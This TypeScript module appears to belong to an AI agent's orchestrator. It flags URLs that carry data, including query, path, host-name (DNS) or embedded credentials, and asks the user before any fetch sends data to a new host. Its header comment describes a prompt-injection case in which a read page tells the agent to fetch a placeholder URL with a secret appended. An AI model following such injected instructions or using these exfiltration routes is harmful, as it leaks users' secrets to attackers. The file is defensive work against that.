/**
 * (attacks.network) a page the agent read may tell it to "fetch https://x/?d=<secret>". Data can leave in the
 * query, in the path, or in the host name itself (DNS exfiltration), so the orchestrator asks
 * before a fetch that carries data to a host not seen in this run.
 */
import type { PolicyDecision } from '../policy/types';
import { normalizeHost } from './urlCheck';
import { judgeUrlData } from './urlData';

function hostOf(url: string | URL): string | undefined {
  try {
    return normalizeHost(new URL(typeof url === 'string' ? url : url.href).hostname);
  } catch {
    return undefined;
  }
}

/** True when the URL's host (case and trailing dot folded; ports ignored) is not among knownHosts. */
export function isNewHost(url: string | URL, knownHosts: Iterable<string>): boolean {
  const host = hostOf(url);
  if (host === undefined) return true;
  for (const known of knownHosts) {
    const k = known.includes('://') ? hostOf(known) : normalizeHost(known.replace(/:\d+$/, ''));
    if (k === host) return false;
  }
  return true;
}

/** Why the URL looks like it carries data (undefined when it does not). The whole URL is judged (urlData.ts). */
export function dataCarried(url: string | URL): string | undefined {
  let u: URL;
  try {
    u = new URL(typeof url === 'string' ? url : url.href);
  } catch {
    return 'the URL is invalid';
  }
  if (u.username || u.password) return 'credentials in the URL';
  return judgeUrlData(u);
}

/** Ask before sending data to a host first seen now; allow otherwise (the fetch policy still applies). */
export function checkOutboundData(url: string | URL, knownHosts: Iterable<string>): PolicyDecision {
  const carried = dataCarried(url);
  if (carried && isNewHost(url, knownHosts)) {
    return {
      verdict: 'ask',
      rule: 'ask:data-to-new-host',
      reason: `The URL carries ${carried} to ${hostOf(url) ?? 'an unknown host'}, a host the user has not approved sending data to in this run.`,
    };
  }
  return { verdict: 'allow', rule: 'allow:no-data-or-known-host', reason: 'No data to a new host.' };
}
